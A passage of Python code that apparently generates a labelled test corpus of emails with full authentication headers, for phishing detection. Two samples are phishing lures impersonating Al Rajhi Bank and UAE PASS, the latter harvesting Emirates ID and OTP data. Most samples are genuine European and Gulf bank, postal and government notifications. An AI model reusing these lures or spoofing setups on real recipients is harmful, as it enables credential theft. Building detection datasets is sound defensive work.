        rx=OUTL, rcpt="noura.alotaibi@hotmail.com", t=t, frm=addr("مصرف الراجحي", "alerts@alrajhibank.com.sa"),
        subject="تنبيه أمني: تم إيقاف بطاقتك مؤقتاً", html=kit_html("ar", "مصرف الراجحي", "#1d3b8b", title, paras, "تحديث البيانات", url, foot, 0, rtl=True),
        txt=plain(title, paras, "تحديث البيانات", url, [foot]), mailfrom="noreply@server.alnahdastore.com", spf="none", dkim=None, dmarc="fail", p="QUARANTINE",
        mailer="PHPMailer 5.2.22 (https://github.com/PHPMailer/PHPMailer)", ip="67.225.188.9", helo="server.alnahdastore.com", mid_host="server.alnahdastore.com", scl=6)

    n = "ae-uaepass-ses-verify"
    t = T("2025-06-24 06:30:12", "UTC")
    name = "b18-phish-" + n
    url = f"https://uaepass-id.com/verify?session={hx(name, 24)}"
    title = "Verify your UAE PASS account"
    paras = ["Dear UAE PASS user,", "As part of the annual identity assurance review, your UAE PASS account must be re-verified against your Emirates ID. Our records show that your verification is still pending.",
             "If you do not complete the verification by <b>27 June 2025</b>, your account will be downgraded to a basic account and access to government services (ICP, MOHRE, Dubai Now) will be suspended."]
    foot = ["UAE PASS is the national digital identity solution of the Telecommunications and Digital Government Regulatory Authority (TDRA)."]
    mid = mid_ses(name)
    head = [f"From: {addr('UAE PASS', 'no-reply@uaepass-id.com')}", "To: omar.haddad@gmail.com", f"Subject: {title} – action required", f"Message-ID: {mid}",
            "Date: %DATE%", "MIME-Version: 1.0", f"Feedback-ID: ::1.eu-west-1.{alnum(name, 43)}=:AmazonSES", "X-SES-Outgoing: 2025.06.24-54.240.3.27"]
    add("phishing", "phish", n, "UAE PASS re-verification lure sent through Amazon SES for uaepass-id.com, DKIM-aligned so DMARC passes; links to an Emirates ID/OTP harvesting page.",
        rx=GM, rcpt="omar.haddad@gmail.com", t=t, ip="54.240.3.27", helo="a3-27.smtp-out.eu-west-1.amazonses.com", mailfrom=mid.strip("<>"),
        dkim=("uaepass-id.com", alnum(name + "sel", 32).lower()), dmarc="pass", p="NONE", head=head,
        body=alt(name, "other", plain(title, paras, "Verify now", url, foot), esp_html("en", "UAE PASS", "#00713d", "https://uaepass.ae/images/uaepass-logo.svg", title, paras, "Verify now", url, foot)))


# ============================================================================= legitimate: notifications and bulk

def bulk_send(slug, desc, *, rx, rcpt, t, frm, subject, body, ip, helo, mailfrom, dkim, p="REJECT", mid=None, extra=(),
              order="std", cat="bulk", kind="bulk", hops=(), to=None):
    name = f"b18-{kind}-{slug}"
    fdom = re.search(r"@([\w.-]+)>?$", frm).group(1)
    head = [f"From: {frm}", f"To: {to or rcpt}", f"Subject: {enc(subject)}", "Date: %DATE%", f"Message-ID: {mid or mid_uuid(name, fdom)}",
            "MIME-Version: 1.0", *extra]
    add(cat, kind, slug, desc, rx=rx, rcpt=rcpt, t=t, ip=ip, helo=helo, mailfrom=mailfrom, spf="pass", dkim=dkim, dmarc="pass", p=p,
        head=head, body=body, hops=hops, spam=0.4, scl=1)


def legit_bulk():
    # PostNord via Salesforce Marketing Cloud
    n = "sv-postnord-tracking"
    name = "b18-bulk-" + n
    qs = lambda k: f"https://click.email.postnord.se/?qs={hx(name + k, 96)}"
    title = "Ditt paket är på väg"
    paras = ["Hej Lars!", "Ditt paket från <b>Zalando SE</b> har lämnats till PostNord och beräknas levereras till ditt ombud <b>ICA Supermarket Sollentuna</b> torsdag 21 mars.",
             "Kolli-ID: 00370726201938471025", "Du får ett nytt meddelande när paketet finns att hämta. Följ leveransen i appen PostNord eller på postnord.se."]
    foot = ["PostNord Sverige AB, 105 00 Stockholm", "Det här meddelandet går inte att svara på."]
    links = [("Kundservice", qs("ks")), ("Integritetspolicy", qs("ip")), ("Ladda ner appen", qs("app"))]
    html = esp_html("sv", "PostNord", "#00a0d6", "https://image.email.postnord.se/lib/fe3b11737164047d7c1c/m/1/postnord-logo.png", title, paras, "Spåra paketet", qs("track"), foot,
                    pre="Beräknad leverans torsdag 21 mars", links=links, pixel=f"https://click.email.postnord.se/open.aspx?ffcb10-{hx(name + 'op', 60)}")
    t = T("2024-03-18 16:04:22", "Europe/Stockholm")
    bulk_send(n, "Genuine PostNord delivery notice from postnord.se via Salesforce Marketing Cloud (SPF/DKIM/DMARC pass) with click.email.postnord.se tracking links.",
              rx=TELIA, rcpt="lars.holmqvist@telia.com", t=t, frm=addr("PostNord", "noreply@postnord.se"), subject="Ditt paket från Zalando SE är på väg",
              body=alt(name, "sfmc", plain(title, paras, "Spåra paketet", qs("track"), foot), html), ip="13.111.64.88", helo="mta.email.postnord.se",
              mailfrom=f"bounce-47_HTML-28194732-1284921-7290001-118@bounce.email.postnord.se", dkim=("postnord.se", "200608"),
              mid=f"<{uid(name)}@atl1s07mta1148.xt.local>", extra=["x-job: 7290001_1284921", f"X-SFMC-Stack: 50",
                                                                   f"Reply-To: PostNord <reply-fe8c1c7470620c7d76-118_HTML-28194732-7290001-1284921@reply.email.postnord.se>"])

    n = "pl-inpost-paczkomat-ready"
    name = "b18-bulk-" + n
    t = T("2024-02-22 13:48:10", "Europe/Warsaw")
    title = "Twoja paczka czeka w Paczkomacie"
    paras = ["Cześć!", "Twoja paczka od <b>Zalando</b> (nr 630058119032204771632) czeka na Ciebie w Paczkomacie <b>KRA01M</b>, ul. Kamieńskiego 11, Kraków (przy Tesco).",
             "Kod odbioru: <b>482 917</b><br>Paczkę możesz odebrać do 24.02.2024, godz. 13:48.", "Możesz też otworzyć skrytkę zdalnie w aplikacji InPost Mobile."]
    url = "https://inpost.pl/sledzenie-przesylek?number=630058119032204771632"
    foot = ["InPost S.A., ul. Pana Tadeusza 4, 30-727 Kraków", "Ta wiadomość została wygenerowana automatycznie."]
    mid = mid_ses(name, "eu-central-1")
    bulk_send(n, "Genuine InPost pick-up notice (inpost.pl via Amazon SES with custom MAIL FROM, DMARC pass) with pickup code and links to inpost.pl.",
              rx=WP, rcpt="kasia.wojcik@wp.pl", t=t, frm=addr("InPost", "powiadomienia@inpost.pl"), subject="Twoja paczka czeka w Paczkomacie KRA01M",
              body=alt(name, "other", plain(title, paras, "Śledź przesyłkę", url, foot),
                       esp_html("pl", "InPost", "#ffcd00", "https://inpost.pl/sites/default/files/logo_inpost.png", title, paras, "Śledź przesyłkę", url, foot,
                                links=[("Pomoc", "https://inpost.pl/pomoc"), ("Aplikacja InPost Mobile", "https://inpost.pl/aplikacja")])),
              ip="69.169.224.5", helo="e224-5.smtp-out.eu-central-1.amazonses.com", mailfrom=mid.strip("<>").replace("eu-central-1.amazonses.com", "mail.inpost.pl"),
              dkim=("inpost.pl", alnum(name + "s", 32).lower()), mid=mid, extra=[f"Feedback-ID: ::1.eu-central-1.{alnum(name, 43)}=:AmazonSES", "X-SES-Outgoing: 2024.02.22-69.169.224.5"])

    n = "fi-posti-pickup-ready"
    name = "b18-bulk-" + n
    title = "Lähetys on noudettavissa"
    paras = ["Hei,", "Lähetyksesi on noudettavissa: <b>Pakettiautomaatti, K-Citymarket Tampere Turtola</b>, Lentävänniemenkatu 5, 33410 Tampere.",
             "Lähettäjä: Zalando SE<br>Lähetystunnus: JJFI60354420004517730<br>Noutokoodi: 7041 92<br>Viimeinen noutopäivä: 14.12.2023", "Voit avata luukun myös OmaPosti-sovelluksella."]
    url = "https://www.posti.fi/fi/seuranta#/lahetys/JJFI60354420004517730"
    foot = ["Posti Oy, PL 7, 00011 POSTI", "Tämä viesti on lähetetty automaattisesti, älä vastaa siihen."]
    bulk_send(n, "Genuine Posti pick-up notice from posti.fi (aligned DKIM, DMARC pass) linking only to posti.fi and OmaPosti.",
              rx=ELISA, rcpt="mikko.virtanen@elisanet.fi", t=T("2023-12-07 09:02:10", "Europe/Helsinki"), frm=addr("Posti", "noreply@posti.fi"),
              subject="Lähetys on noudettavissa – JJFI60354420004517730",
              body=alt(name, "java", plain(title, paras, "Seuraa lähetystä", url, foot),
                       esp_html("fi", "Posti", "#f56b26", "https://www.posti.fi/static/email/posti-logo.png", title, paras, "Seuraa lähetystä", url, foot,
                                links=[("OmaPosti", "https://oma.posti.fi"), ("Asiakastuki", "https://www.posti.fi/fi/asiakastuki")])),
              ip="185.41.98.12", helo="mx-out2.posti.fi", mailfrom="bounces@mail.posti.fi", dkim=("posti.fi", "posti2023"))

    n = "sv-nordea-new-message"
    name = "b18-bulk-" + n
    title = "Du har ett nytt meddelande"
    paras = ["Hej,", "Du har fått ett nytt meddelande i Nordea Internetbanken och Nordea-appen.",
             "Logga in med Mobilt BankID för att läsa meddelandet. Av säkerhetsskäl skickar vi aldrig länkar till inloggningen i e-post, och vi ber dig aldrig att uppge koder eller signera med BankID på uppmaning av någon som kontaktar dig.",
             "Vänliga hälsningar<br>Nordea"]
    foot = ["Nordea Bank Abp, filial i Sverige, Smålandsgatan 17, 105 71 Stockholm", "Det här e-postmeddelandet går inte att svara på."]
    bulk_send(n, "Genuine Nordea 'new message in the netbank' notice: no link at all, DMARC pass on nordea.se.",
              rx=GM, rcpt="emma.sjoberg84@gmail.com", t=T("2024-06-05 10:12:41", "Europe/Stockholm"), frm=addr("Nordea", "noreply@nordea.se"),
              subject="Du har ett nytt meddelande från Nordea",
              body=alt(name, "java", plain(title, paras, footer=foot), esp_html("sv", "Nordea", "#0000a0", "https://www.nordea.se/Images/email/nordea-logo.png", title, paras, footer=foot)),
              ip="193.234.243.40", helo="mail2.nordea.com", mailfrom="bounce@nordea.se", dkim=("nordea.se", "nordea1"))

    n = "pl-pko-wyciag-notice"
    name = "b18-bulk-" + n
    title = "Nowy wyciąg w iPKO biznes"
    paras = ["Szanowni Państwo,", "informujemy, że w serwisie iPKO biznes jest dostępny wyciąg z rachunku firmowego za okres <b>01.03.2024 – 31.03.2024</b>.",
             "Wyciąg znajdą Państwo po zalogowaniu w serwisie, w zakładce Rachunki → Wyciągi. Przypominamy, że PKO Bank Polski nigdy nie prosi w wiadomościach e-mail o podanie loginu, hasła ani kodów autoryzacyjnych."]
    foot = ["PKO Bank Polski SA, ul. Puławska 15, 02-515 Warszawa. Sąd Rejonowy dla m.st. Warszawy, KRS 0000026438.", "Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać."]
    bulk_send(n, "Genuine PKO BP statement-available notice for a business account from pkobp.pl (DMARC pass), no links or attachments.",
              rx=HOMEPL, rcpt="biuro@kowalski-transport.pl", t=T("2024-04-02 06:05:13", "Europe/Warsaw"), frm=addr("PKO Bank Polski", "powiadomienia@pkobp.pl"),
              subject="Nowy wyciąg z rachunku w iPKO biznes",
              body=alt(name, "java", plain(title, paras, footer=foot), esp_html("pl", "PKO Bank Polski", "#004c9a", "https://www.pkobp.pl/static/img/email/logo-pko.png", title, paras, footer=foot)),
              ip="195.94.212.73", helo="mx-out1.pkobp.pl", mailfrom="powiadomienia@pkobp.pl", dkim=("pkobp.pl", "pko2022"))

    n = "ae-emiratesnbd-card-alert"
    name = "b18-bulk-" + n
    txt = ("Dear Customer,\n\nYour Emirates NBD Debit Card ending 4471 was used for AED 238.50 at CARREFOUR MOE DUBAI on 20/01/2025 19:42.\n"
           "Available balance: AED 12,406.12.\n\nIf you did not make this transaction, please call 600 54 0000 or block your card in the ENBD X app.\n\n"
           "عزيزي العميل،\nتم استخدام بطاقة الخصم المنتهية بـ 4471 بمبلغ 238.50 درهم لدى CARREFOUR MOE DUBAI بتاريخ 20/01/2025 19:42.\n"
           "إذا لم تقم بهذه العملية، يرجى الاتصال على 600540000 أو إيقاف البطاقة من تطبيق ENBD X.\n\nEmirates NBD Bank PJSC\n")
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222"><table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #ddd">'
            '<tr><td style="background:#072447;padding:14px"><img src="https://www.emiratesnbd.com/-/media/enbd/images/logo/enbd-logo-white.png" alt="Emirates NBD" height="30"></td></tr>'
            '<tr><td style="padding:20px"><p>Dear Customer,</p><p>Your Emirates NBD Debit Card ending <b>4471</b> was used for <b>AED 238.50</b> at CARREFOUR MOE DUBAI on 20/01/2025 19:42.<br>Available balance: AED 12,406.12.</p>'
            '<p>If you did not make this transaction, please call 600 54 0000 or block your card in the ENBD X app.</p>'
            '<div dir="rtl" style="text-align:right;border-top:1px solid #eee;padding-top:12px"><p>عزيزي العميل،</p><p>تم استخدام بطاقة الخصم المنتهية بـ 4471 بمبلغ 238.50 درهم لدى CARREFOUR MOE DUBAI بتاريخ 20/01/2025 19:42.</p>'
            '<p>إذا لم تقم بهذه العملية، يرجى الاتصال على 600540000 أو إيقاف البطاقة من تطبيق ENBD X.</p></div></td></tr>'
            '<tr><td style="padding:12px 20px;font-size:11px;color:#888;background:#f6f6f6">Emirates NBD Bank PJSC. This is a system-generated email; please do not reply.</td></tr></table></body></html>')
    bulk_send(n, "Genuine Emirates NBD bilingual debit-card transaction alert (DMARC pass on emiratesnbd.com), no links, official call-centre number.",
              rx=GM, rcpt="rashid.almansoori@gmail.com", t=T("2025-01-20 19:42:55", "Asia/Dubai"), frm=addr("Emirates NBD", "alerts@emiratesnbd.com"),
              subject="Transaction alert on your Emirates NBD Debit Card", body=alt(name, "java", txt, html),
              ip="212.118.64.71", helo="mailout2.emiratesnbd.com", mailfrom="alerts@emiratesnbd.com", dkim=("emiratesnbd.com", "enbd"))

    n = "pl-edoreczenia-new-mail"
    name = "b18-bulk-" + n
    title = "Nowa korespondencja w skrzynce"
    paras = ["Dzień dobry,", "w Twojej skrzynce do doręczeń elektronicznych jest nowa korespondencja.",
             "<b>Nadawca:</b> Urząd Skarbowy Warszawa-Mokotów<br><b>Data nadania:</b> 20.05.2025 10:41",
             "Aby odebrać korespondencję, zaloguj się do skrzynki w aplikacji mObywatel lub na stronie mObywatel.gov.pl. Korespondencja zostanie uznana za doręczoną po 14 dniach, nawet jeśli jej nie odbierzesz."]
    foot = ["Wiadomość wysłana automatycznie z systemu e-Doręczenia. Nie odpowiadaj na nią.", "Centralny Ośrodek Informatyki, ul. Głębocka 92, 03-287 Warszawa"]
    url = "https://www.mobywatel.gov.pl/"
    bulk_send(n, "Genuine e-Doręczenia notice of new official mail, pointing to mObywatel (gov.pl domain, DMARC pass).",
              rx=ONET, rcpt="jan.kaczmarek@onet.pl", t=T("2025-05-20 10:42:18", "Europe/Warsaw"), frm=addr("e-Doręczenia", "powiadomienia@e-doreczenia.gov.pl"),
              subject="Nowa korespondencja w skrzynce do doręczeń elektronicznych",
              body=alt(name, "java", plain(title, paras, "Przejdź do mObywatel.gov.pl", url, foot),
                       esp_html("pl", "e-Doręczenia", "#0052a5", "https://www.gov.pl/img/icons/godlo-12.svg", title, paras, "Przejdź do mObywatel.gov.pl", url, foot)),
              ip="91.242.218.20", helo="smtp.coi.gov.pl", mailfrom="powiadomienia@e-doreczenia.gov.pl", dkim=("e-doreczenia.gov.pl", "coi"))

    n = "cs-isds-delivery-notice"
    txt = ("Vážená paní, vážený pane,\n\ndo Vaší datové schránky (ID schránky: 7kp3x2m) byla dodána datová zpráva.\n\nID datové zprávy: 1502288416\n"
           "Odesílatel: Finanční úřad pro Středočeský kraj\nVěc: Vyrozumění o výsledku daňového řízení\n\n"
           "Zprávu si můžete přečíst po přihlášení do své datové schránky na adrese https://www.mojedatovaschranka.cz nebo v mobilní aplikaci Datovka.\n\n"
           "Tato zpráva je pouze informativní a slouží k upozornění na dodání datové zprávy. Na tuto zprávu neodpovídejte.\n\nInformační systém datových schránek\n")
    bulk_send(n, "Genuine plain-text ISDS notification of a delivered data message, from mojedatovaschranka.cz with DMARC pass, no clickable login.",
              rx=SEZNAM, rcpt="jana.novotna@email.cz", t=T("2025-02-04 08:30:02", "Europe/Prague"), frm=addr("Datové schránky", "info@mojedatovaschranka.cz"),
              subject="Notifikace o dodání datové zprávy", body=text(txt, "plain", "8bit"), ip="195.113.131.20", helo="mail.mojedatovaschranka.cz",
              mailfrom="info@mojedatovaschranka.cz", dkim=("mojedatovaschranka.cz", "isds"), p="QUARANTINE")

    n = "da-digital-post-notice"
    name = "b18-bulk-" + n
    title = "Du har modtaget ny Digital Post"
    paras = ["Kære Jens Poulsen", "Du har modtaget ny post i Digital Post fra <b>Skattestyrelsen</b>.",
             "Du kan læse posten på borger.dk, i appen Digital Post eller på mit.dk, hvor du logger på med MitID.", "Venlig hilsen<br>Digital Post"]
    foot = ["Denne e-mail er sendt automatisk, og du kan ikke svare på den. Du kan ændre dine notifikationer under Indstillinger i Digital Post.",
            "Digitaliseringsstyrelsen, Landgreven 4, 1301 København K"]
    bulk_send(n, "Genuine Digital Post notification (new letter from Skattestyrelsen) telling the user to log in via borger.dk/mit.dk; DMARC pass.",
              rx=MAILDK, rcpt="jens.poulsen@mail.dk", t=T("2024-05-17 06:01:44", "Europe/Copenhagen"), frm=addr("Digital Post", "noreply@digitalpost.dk"),
              subject="Du har modtaget ny Digital Post",
              body=alt(name, "java", plain(title, paras, footer=foot),
                       esp_html("da", "Digital Post", "#14143c", "https://www.digitalpost.dk/assets/digitalpost-logo.png", title, paras, footer=foot,
                                links=[("borger.dk", "https://www.borger.dk/digitalpost"), ("mit.dk", "https://mit.dk")])),
              ip="152.115.48.34", helo="smtp1.digitalpost.dk", mailfrom="noreply@digitalpost.dk", dkim=("digitalpost.dk", "dp1"))

    n = "pl-allegro-purchase-confirmation"
    name = "b18-bulk-" + n
    oid = uid(name)
    utm = "utm_source=transactional&utm_medium=email&utm_campaign=buyer_purchase_confirmation"
    title = "Dziękujemy za zakup!"
    paras = ["Cześć Ewa,", "dziękujemy za zakup! Sprzedający <b>AudioMarket_PL</b> otrzymał Twoje zamówienie.",
             "<b>Słuchawki bezprzewodowe JBL Tune 520BT czarne</b><br>1 szt. × 169,00 zł<br>Dostawa: Allegro Paczkomaty InPost – 0,00 zł (Allegro Smart!)<br>Razem: <b>169,00 zł</b>",
             "Płatność: BLIK – opłacone"]
    foot = ["Allegro.pl sp. z o.o., ul. Grunwaldzka 182, 60-166 Poznań", "Allegro nigdy nie prosi o podanie hasła ani danych karty w wiadomości e-mail."]
    url = f"https://allegro.pl/moje-allegro/zakupy/kupione/{oid}?{utm}"
    bulk_send(n, "Genuine Allegro purchase confirmation from allegro.pl (DMARC pass) with links to the order on allegro.pl carrying UTM parameters.",
              rx=O2, rcpt="ewa.kaminska@o2.pl", t=T("2023-06-02 20:11:37", "Europe/Warsaw"), frm=addr("Allegro", "powiadomienia@allegro.pl"),
              subject="Dziękujemy za zakup – Słuchawki JBL Tune 520BT",
              body=alt(name, "java", plain(title, paras, "Zobacz szczegóły zakupu", url, foot),
                       esp_html("pl", "Allegro", "#ff5a00", "https://assets.allegrostatic.com/metrum/brand/allegro-347440b030.svg", title, paras, "Zobacz szczegóły zakupu", url, foot,
                                links=[("Centrum Pomocy", f"https://allegro.pl/pomoc?{utm}"), ("Ustawienia powiadomień", f"https://allegro.pl/moje-allegro/moje-konto/ustawienia-powiadomien?{utm}")])),
              ip="91.207.14.20", helo="mx-out-14.allegro.pl", mailfrom="bounce@allegro.pl", dkim=("allegro.pl", "s2048"))

    n = "sv-blocket-new-message"
    name = "b18-bulk-" + n
    title = "Nytt meddelande om din annons"
    paras = ["Hej Pernilla,", "Du har fått ett nytt meddelande från <b>Johan</b> om din annons <b>Soffa IKEA Söderhamn 3-sits</b>:",
             "<i>”Hej! Finns soffan kvar? Kan hämta på lördag förmiddag i så fall.”</i>",
             "Svara direkt i Blocket-appen eller på blocket.se. Tänk på att aldrig klicka på länkar som skickas i meddelanden för att ta emot en betalning."]
    foot = ["Blocket AB, Box 3083, 103 61 Stockholm"]
    url = f"https://www.blocket.se/meddelanden/{hx(name, 24)}?utm_source=email&utm_medium=notification"
    mid = mid_ses(name)
    bulk_send(n, "Genuine Blocket new-message notification from blocket.se via Amazon SES (DKIM aligned, DMARC pass) with a link into the Blocket inbox.",
              rx=TELIA, rcpt="pernilla.lindgren@telia.com", t=T("2024-08-08 18:40:11", "Europe/Stockholm"), frm=addr("Blocket", "noreply@blocket.se"),
              subject="Nytt meddelande om din annons ”Soffa IKEA Söderhamn 3-sits”",
              body=alt(name, "other", plain(title, paras, "Läs och svara", url, foot),
                       esp_html("sv", "Blocket", "#e63232", "https://www.blocket.se/static/email/blocket-logo.png", title, paras, "Läs och svara", url, foot,
                                links=[("Hjälp", "https://hjalpcenter.blocket.se"), ("Notisinställningar", "https://www.blocket.se/mina-sidor/installningar")])),
              ip="54.240.7.20", helo="a7-20.smtp-out.eu-west-1.amazonses.com", mailfrom=mid.strip("<>").replace("eu-west-1.amazonses.com", "mail.blocket.se"),
              dkim=("blocket.se", alnum(name + "s", 32).lower()), mid=mid, extra=[f"Feedback-ID: ::1.eu-west-1.{alnum(name, 43)}=:AmazonSES"])


def legit_bulk2():
    n = "ae-salik-monthly-statement"
    name = "b18-bulk-" + n
    title = "Your Salik Statement – January 2025"
    paras = ["Dear Rashid Al Mansoori,", "Please find attached your Salik account statement for the period 01/01/2025 – 31/01/2025.",
             "Account number: 3812047<br>Trips during the period: 38<br>Total toll charges: AED 152.00<br>Closing balance: AED 96.00",
             "You can view your trips and top up your balance in the Salik app or at salik.ae."]
    foot = ["Salik Company P.J.S.C., P.O. Box 126000, Dubai, UAE", "This is an automated email, please do not reply."]
    pdfdata = pdf_doc(["Salik Company P.J.S.C. - Account Statement", "Account: 3812047   Period: 01/01/2025 - 31/01/2025", "Customer: Rashid Al Mansoori", "",
                       "Opening balance:        AED 148.00", "Top-ups:                AED 100.00", "Toll charges (38 trips): AED 152.00",
                       "Closing balance:        AED  96.00", "", "Trips are listed in the Salik app under Trips."], "Salik Statement January 2025",
                      producer="JasperReports Library version 6.20.0")
    body = Multi("mixed", boundary(name, "java"), [
        alt(name + "a", "java", plain(title, paras, footer=foot),
            esp_html("en", "Salik", "#00a19a", "https://www.salik.ae/-/media/project/salik/logo.png", title, paras, footer=foot, links=[("salik.ae", "https://www.salik.ae")])),
        attachment("application/pdf", "Salik_Statement_Jan2025_3812047.pdf", pdfdata)])
    bulk_send(n, "Genuine monthly Salik statement from salik.ae (DMARC pass) with the PDF statement attached and no payment link.",
              rx=GM, rcpt="rashid.almansoori@gmail.com", t=T("2025-02-02 07:00:15", "Asia/Dubai"), frm=addr("Salik", "noreply@salik.ae"),
              subject=title, body=body, ip="94.56.231.18", helo="mail.salik.ae", mailfrom="noreply@salik.ae", dkim=("salik.ae", "selector1"))

    # regional newsletter through Mailchimp
    n = "no-regional-newsletter-mailchimp"
    name = "b18-bulk-" + n
    u, lid, cid, eid = hx(name + "u", 25), hx(name + "l", 10), hx(name + "c", 10), hx(name + "e", 10)
    trk = lambda k: f"https://vestlandsnytt.us21.list-manage.com/track/click?u={u}&id={hx(name + k, 10)}&e={eid}"
    items = [("Bybanen til Fyllingsdalen: nye avganger fra mandag", "Skyss setter opp ti-minuttersrute hele dagen. Se de nye rutetidene.", "bybane"),
             ("Ferjekaos i Hardanger etter motorstopp", "MF «Hardingen» er ute av drift resten av uka. Dette er alternativene.", "ferje"),
             ("Været: mildvær og styrtregn på Vestlandet", "Meteorologene varsler opptil 80 mm nedbør i indre strøk. Farevarsel gult nivå.", "vaer"),
             ("Helgens konserter i Bergen og omegn", "Fra Grieghallen til Hulen – vi har samlet de beste tipsene for helgen.", "konsert"),
             ("Brann-trener klar for ny sesong", "Treningsstart på Stadion mandag. Her er de nye spillerne.", "brann"),
             ("Les hele utgaven på nett", "Alle saker fra dagens morgenoppdatering samlet på vestlandsnytt.no.", "alle")]
    blocks = "".join(f'<tr><td style="padding:14px 24px;border-bottom:1px solid #eee;font-family:Georgia,serif"><a href="{trk(k)}" style="font-size:18px;color:#0b3954;text-decoration:none;font-weight:bold">{h}</a>'
                     f'<p style="margin:6px 0 0 0;font-family:Arial,sans-serif;font-size:14px;color:#444">{d}</p></td></tr>\n' for h, d, k in items)
    unsub = f"https://vestlandsnytt.us21.list-manage.com/unsubscribe?u={u}&id={lid}&e={eid}&c={cid}"
    html = f"""<!doctype html>
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Morgenoppdatering</title></head>
<body style="margin:0;padding:0;background:#f4f4f4"><span class="mcnPreviewText" style="display:none">Ny bybanestrekning, ferjekaos og helgens konserter</span>
<center><table width="600" cellpadding="0" cellspacing="0" style="background:#fff">
<tr><td style="padding:20px 24px;background:#0b3954"><a href="{trk('logo')}"><img src="https://mcusercontent.com/{u}/images/{uid(name + 'img')}.png" alt="Vestlandsnytt" width="200" style="border:0"></a></td></tr>
<tr><td style="padding:18px 24px 6px 24px;font-family:Arial,sans-serif;font-size:14px;color:#666">Torsdag 16. januar 2025 · Morgenoppdatering</td></tr>
{blocks}<tr><td style="padding:18px 24px;font-family:Arial,sans-serif;font-size:12px;color:#888">
Du får denne e-posten fordi du abonnerer på nyhetsbrevet fra Vestlandsnytt.<br>
<a href="https://vestlandsnytt.us21.list-manage.com/profile?u={u}&id={lid}&e={eid}&c={cid}" style="color:#888">Endre innstillinger</a> · <a href="{unsub}" style="color:#888">Meld deg av</a><br>
Vestlandsnytt AS · Strandgaten 18 · 5013 Bergen · Norway</td></tr></table>
<a href="http://eepurl.com/{alnum(name + 'ee', 6)}" title="Mailchimp - email marketing made easy and fun"><img src="https://eep.io/mc-cdn-images/template_images/branding_logo_text_dark_dtp.svg" alt="Intuit Mailchimp" width="130"></a></center>
<img src="https://vestlandsnytt.us21.list-manage.com/track/open.php?u={u}&id={cid}&e={eid}" height="1" width="1" alt="">
</body></html>
"""
    txt = "Morgenoppdatering – torsdag 16. januar 2025\n\n" + "\n\n".join(f"{h}\n{d}\n{trk(k)}" for h, d, k in items) + \
          f"\n\n============================================================\nMeld deg av: {unsub}\nVestlandsnytt AS · Strandgaten 18 · 5013 Bergen\n"
    mf = f"bounce-mc.us21_{num(name, 10000000, 99999999)}.{num(name + 'b', 1000000, 9999999)}-{eid}@mail42.suw13.mcsv.net"
    extra = [f"List-Unsubscribe: <{unsub}>,\n <mailto:unsubscribe-mc.us21_{u}.{cid}-{eid}@unsub.mcsv.net?subject=unsubscribe>",
             "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"X-Mailer: Mailchimp Mailer - **CID{cid}{eid}**",
             f"X-Campaign: mailchimp{u}.{cid}", f"X-campaignid: mailchimp{u}.{cid}", f"X-Report-Abuse: Please report abuse for this campaign here: https://mailchimp.com/contact/abuse/?u={u}&id={cid}&e={eid}",
             f"X-MC-User: {u}", f"Feedback-ID: {num(name, 10000000, 99999999)}:{num(name + 'f', 1000000, 9999999)}.{num(name + 'g', 100000, 999999)}:us21:mc",
             f"List-ID: {u}mc list <{u}.{num(name + 'li', 100000, 999999)}.list-id.mcsv.net>", "X-Accounttype: pd", "Precedence: bulk"]
    bulk_send(n, "Genuine regional morning newsletter via Mailchimp: dozens of list-manage.com tracking redirects, List-Unsubscribe one-click, DKIM aligned for the publisher.",
              rx=GM, rcpt="tor.eriksen@gmail.com", t=T("2025-01-16 06:30:00", "Europe/Oslo"), frm=addr("Vestlandsnytt", "post@vestlandsnytt.no"),
              subject="Morgenoppdatering: Ny bybanestrekning, ferjekaos i Hardanger og helgens konserter", to="<tor.eriksen@gmail.com>",
              body=Multi("alternative", boundary(name, "mc"), [text(txt), text(html, "html")]), ip="198.2.139.42", helo="mail42.suw13.mcsv.net",
              mailfrom=mf, dkim=("vestlandsnytt.no", "k2"), p="NONE", mid=f"<{hx(name + 'm', 20)}.{hx(name + 'n', 20)}@mail42.suw13.mcsv.net>", extra=extra)

    n = "tr-garanti-campaign-newsletter"
    name = "b18-bulk-" + n
    clk = lambda k: f"https://click.e-bulten.garantibbva.com.tr/?e={hx(name + 'e', 16)}&l={hx(name + k, 24)}"
    title = "Yılbaşı alışverişlerinize 500 TL'ye varan bonus"
    paras = ["Değerli Müşterimiz,", "20-31 Aralık tarihleri arasında Bonus kartlarınızla yapacağınız 2.500 TL ve üzeri giyim, elektronik ve market harcamalarınıza <b>500 TL'ye varan Bonus</b> kazanma fırsatı sizi bekliyor.",
             "Kampanyaya katılmak için BonusFlaş uygulamasından KATIL butonuna dokunmanız ya da YILBASI yazıp 3340'a SMS göndermeniz yeterli.",
             f'<a href="{clk("kosul")}">Kampanya koşulları</a> · <a href="{clk("bonusflas")}">BonusFlaş</a> · <a href="{clk("kart")}">Kredi kartı başvurusu</a>']
    foot = ["Garanti BBVA · Nispetiye Mah. Aytar Cad. No:2 Levent 34340 Beşiktaş/İstanbul · Mersis No: 0879001756600379",
            f'Bu e-postaları almak istemiyorsanız <a href="{clk("unsub")}">buraya tıklayarak</a> ticari ileti onayınızı geri alabilirsiniz.']
    extra = [f"List-Unsubscribe: <{clk('unsub')}>, <mailto:unsubscribe-{hx(name, 12)}@e-bulten.garantibbva.com.tr>",
             "List-Unsubscribe-Post: List-Unsubscribe=One-Click", f"X-EMS-CampaignID: {num(name, 100000, 999999)}", "Precedence: bulk"]
    bulk_send(n, "Genuine Garanti BBVA marketing mailing through its ESP subdomain (DKIM aligned, DMARC pass) with many click-tracking links and a List-Unsubscribe header.",
              rx=GM, rcpt="mehmet.demir@gmail.com", t=T("2024-12-20 11:00:00", "Europe/Istanbul"), frm=addr("Garanti BBVA", "bilgi@e-bulten.garantibbva.com.tr"),
              subject=title, body=alt(name, "other", plain(title, paras, "Hemen Katıl", clk("katil"), foot),
                                      esp_html("tr", "Garanti BBVA", "#1a9f4c", "https://img.e-bulten.garantibbva.com.tr/garantibbva/logo.png", title, paras, "Hemen Katıl", clk("katil"), foot,
                                               pre="Bonus kartlarınızla yılbaşı alışverişlerinde ekstra kazanç", pixel=f"https://click.e-bulten.garantibbva.com.tr/o/?e={hx(name + 'e', 16)}")),
